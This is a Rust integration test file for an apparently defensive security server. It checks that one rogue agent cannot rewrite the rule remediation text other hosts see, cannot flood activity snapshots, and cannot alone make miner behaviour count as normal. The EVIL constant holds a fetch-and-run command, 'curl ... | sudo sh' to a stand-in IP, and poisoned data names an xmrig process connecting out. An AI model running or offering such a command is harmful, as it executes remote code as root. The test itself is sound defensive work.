//! Issue 20, item 2: one agent credential must not change what the fleet sees. An agent's rule report
//! cannot rewrite a rule's description or remediation for other hosts' signals; its activity snapshots are
//! taken only for workloads it reported, within a rate, and however many it sends, a profile needs several
//! agents to become stable and keeps only what several agents saw.

use rampart_policy::bundle::SignedBundle;
use serde_json::{json, Value};

use super::{addr_of, assert_healthz_fast, now_ns, scalar};
use crate::common::{mk_match, TestDb, TestServer};

/// A default-policy rule and what the policy says to do about it.
const RULE: &str = "miner_stratum_url_in_args";
const REMEDIATION: &str = "Stop and remove the miner";
const EVIL: &str = "Nothing to worry about: run `curl -s https://198.51.100.7/fix | sudo sh`";

async fn signal_of(s: &TestServer, rule: &str, host: &str) -> Value {
    let (st, list) = s
        .call(
            "GET",
            &format!("/api/v1/signals?rule_id={rule}&hostname={host}"),
            Some(&s.admin),
            None,
        )
        .await;
    assert_eq!(st, 200, "{list}");
    assert_eq!(list["total"], 1, "{list}");
    let id = &list["signals"][0]["id"];
    let (st, detail) = s
        .call(
            "GET",
            &format!("/api/v1/signals/{id}"),
            Some(&s.admin),
            None,
        )
        .await;
    assert_eq!(st, 200, "{detail}");
    detail
}

async fn rule_reports_stay_with_their_agent(db: TestDb) {
    let s = TestServer::start(&db).await;
    let attacker = s.enroll("evil-1").await;
    let victim = s.enroll("web-1").await;
    // The attacker rewrites a default-policy rule and a rule only the victim's local policy has.
    let report = json!({"rules": [
        {"id": RULE, "description": "benign", "severity": "info", "remediation": EVIL},
        {"id": "local_rule", "description": "benign", "severity": "info", "remediation": EVIL},
    ]});
    let (st, v) = s
        .agent_call(&attacker, "PUT", "/api/v1/agents/rules", report)
        .await;
    assert_eq!(st, 200, "{v}");
    for rule in [RULE, "local_rule"] {
        let m = mk_match(
            rule,
            &format!("v-{rule}"),
            now_ns(),
            "web-1",
            None,
            7,
            "/usr/bin/xmrig",
        );
        let (st, v) = s.ingest(&victim, &[m]).await;
        assert_eq!(st, 200, "{v}");
    }

    // The victim's signal shows the server's own metadata; the attacker's text is nowhere in it.
    let detail = signal_of(&s, RULE, "web-1").await;
    assert!(
        detail["remediation"]
            .as_str()
            .unwrap()
            .starts_with(REMEDIATION),
        "{detail}"
    );
    assert_eq!(detail["rule"]["severity"], "critical");
    assert_eq!(detail["rule"]["defined_by"], "server");
    let local = signal_of(&s, "local_rule", "web-1").await;
    assert_eq!(local["remediation"], Value::Null, "{local}");
    for d in [&detail, &local] {
        assert!(!d.to_string().contains("sudo sh"), "{d}");
    }
    // The rule listing is the server's; the attacker's report is listed apart, as its word.
    let (_, rule) = s
        .call(
            "GET",
            &format!("/api/v1/rules/{RULE}"),
            Some(&s.admin),
            None,
        )
        .await;
    assert!(rule["rule"]["remediation"]
        .as_str()
        .unwrap()
        .starts_with(REMEDIATION));
    let reports = rule["agent_reports"].as_array().unwrap();
    assert_eq!(reports.len(), 1, "{rule}");
    assert_eq!(
        (
            reports[0]["hostname"].as_str(),
            reports[0]["verified"].as_bool()
        ),
        (Some("evil-1"), Some(false))
    );
    let (_, all) = s.call("GET", "/api/v1/rules", Some(&s.admin), None).await;
    assert!(
        !all.to_string().contains("sudo sh"),
        "the catalogue is the server's"
    );
    // Stored only as the attacker's own report.
    let n: i64 = scalar(
        &s.state.db,
        "SELECT COUNT(*) FROM agent_rule_reports r JOIN agents a ON a.id = r.agent_id WHERE a.hostname <> 'evil-1'",
    )
    .await;
    assert_eq!(n, 0);
    assert_healthz_fast(addr_of(&s.base)).await;
    s.stop().await;
}
both!(rule_reports_stay_with_their_agent);

fn snapshot(id: &str, container: &str, behaviours: &[(&str, &str, &str)]) -> Value {
    let behaviors: Vec<Value> = behaviours
        .iter()
        .map(|(kind, process, detail)| {
            json!({"kind": kind, "process": process, "detail": detail, "count": 1})
        })
        .collect();
    json!({"id": id, "workload": {"kind": "container", "id": container, "image_name": "shop", "image_tag": "1.0"},
           "started_at": 1, "ended_at": 2, "events": 3, "dropped": 0, "behaviors": behaviors})
}

async fn post_snapshot(s: &TestServer, agent: &str, snap: Value) -> (u16, Value) {
    s.agent_call(agent, "POST", "/api/v1/agents/snapshots", snap)
        .await
}

async fn snapshots_only_of_reported_workloads_within_a_rate(db: TestDb) {
    let mut config = crate::common::config(&db.url());
    config.profiles.snapshots_per_agent_hour = 3;
    let s = TestServer::start_with(config).await;
    let agent = s.enroll("evil-1").await;
    let nginx = [("process", "/usr/sbin/nginx", "")];

    // Any image, no report: refused.
    let (st, v) = post_snapshot(&s, &agent, snapshot("s0", "c1", &nginx)).await;
    assert_eq!(st, 409, "{v}");
    assert!(
        v["message"].as_str().unwrap().contains("never reported"),
        "{v}"
    );
    assert_eq!(s.count("activity_snapshots").await, 0);
    assert_eq!(s.count("security_profiles").await, 0);
    // A reported container, but another image than the report said: refused too.
    s.report_workloads(&agent, &[("c1", "other", "2.0")]).await;
    let (st, _) = post_snapshot(&s, &agent, snapshot("s0", "c1", &nginx)).await;
    assert_eq!(st, 409);

    s.report_workloads(&agent, &[("c1", "shop", "1.0")]).await;
    for i in 0..3 {
        let (st, v) = post_snapshot(&s, &agent, snapshot(&format!("s{i}"), "c1", &nginx)).await;
        assert_eq!(st, 200, "{v}");
    }
    let (st, v) = post_snapshot(&s, &agent, snapshot("s3", "c1", &nginx)).await;
    assert_eq!(st, 429, "{v}");
    assert!(v["message"].as_str().unwrap().contains("at most 3"), "{v}");
    assert_eq!(s.count("activity_snapshots").await, 3);
    // A re-sent snapshot is still a harmless duplicate, not a refusal.
    let (st, v) = post_snapshot(&s, &agent, snapshot("s1", "c1", &nginx)).await;
    assert_eq!((st, v["duplicate"].as_bool()), (200, Some(true)), "{v}");
    assert_healthz_fast(addr_of(&s.base)).await;
    s.stop().await;
}
both!(snapshots_only_of_reported_workloads_within_a_rate);

/// The profile of `shop:1.0`, from the API.
async fn shop_profile(s: &TestServer) -> Value {
    let (_, list) = s
        .call("GET", "/api/v1/profiles", Some(&s.admin), None)
        .await;
    let id = list["profiles"][0]["id"].clone();
    let (st, p) = s
        .call(
            "GET",
            &format!("/api/v1/profiles/{id}"),
            Some(&s.admin),
            None,
        )
        .await;
    assert_eq!(st, 200, "{p}");
    p
}

/// The stable profiles in the configuration bundle `agent` receives.
async fn pushed_profiles(s: &TestServer, agent: &str) -> Vec<Value> {
    let (st, signed) = s
        .agent_call(agent, "GET", "/api/v1/agents/config", Value::Null)
        .await;
    assert_eq!(st, 200, "{signed}");
    let signed: SignedBundle = serde_json::from_value(signed).unwrap();
    let bundle: Value = serde_json::from_str(&signed.bundle).unwrap();
    bundle["profiles"].as_array().cloned().unwrap_or_default()
}

async fn one_agent_cannot_make_its_behaviours_normal(db: TestDb) {
    let mut config = crate::common::config(&db.url());
    config.profiles.stable_after_snapshots = 2;
    config.profiles.min_agents = 2;
    let s = TestServer::start_with(config).await;
    let attacker = s.enroll("evil-1").await;
    s.report_workloads(&attacker, &[("c1", "shop", "1.0")])
        .await;
    let poisoned = [
        ("process", "/usr/sbin/nginx", ""),
        ("process", "/tmp/.x/xmrig", ""),
        ("connect", "/tmp/.x/xmrig", "198.51.100.7:3333"),
    ];
    for i in 0..5 {
        let (st, v) =
            post_snapshot(&s, &attacker, snapshot(&format!("a{i}"), "c1", &poisoned)).await;
        assert_eq!(st, 200, "{v}");
        assert_eq!(v["became_stable"], false, "{v}");
    }
    assert_eq!(shop_profile(&s).await["status"], "learning");
    // Nor does time alone make it stable: the promotion pass wants two agents too.
    let mut aged = crate::common::config(&db.url());
    aged.profiles.min_agents = 2;
    aged.profiles.stable_after = std::time::Duration::ZERO;
    let state = rampart_server::build_state(aged).await.unwrap();
    rampart_server::profiles::store::promote_due(&state)
        .await
        .unwrap();
    assert_eq!(shop_profile(&s).await["status"], "learning");
    assert_eq!(pushed_profiles(&s, &attacker).await, Vec::<Value>::new());

    // A second agent running the real workload: now the profile is stable, with what both saw only.
    let honest = s.enroll("web-1").await;
    s.report_workloads(&honest, &[("c2", "shop", "1.0")]).await;
    let (st, v) = post_snapshot(&s, &honest, snapshot("h0", "c2", &poisoned[..1])).await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["became_stable"], true, "{v}");
    let p = shop_profile(&s).await;
    let kept: Vec<&str> = p["behaviors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["process"].as_str().unwrap())
        .collect();
    assert_eq!(kept, ["/usr/sbin/nginx"], "{p}");
    // What every agent is pushed as normal: no miner.
    let pushed = pushed_profiles(&s, &honest).await;
    assert_eq!(pushed.len(), 1);
    assert_eq!(pushed[0]["behaviors"], json!(["process|/usr/sbin/nginx|"]));
    assert_healthz_fast(addr_of(&s.base)).await;
    s.stop().await;
}
both!(one_agent_cannot_make_its_behaviours_normal);
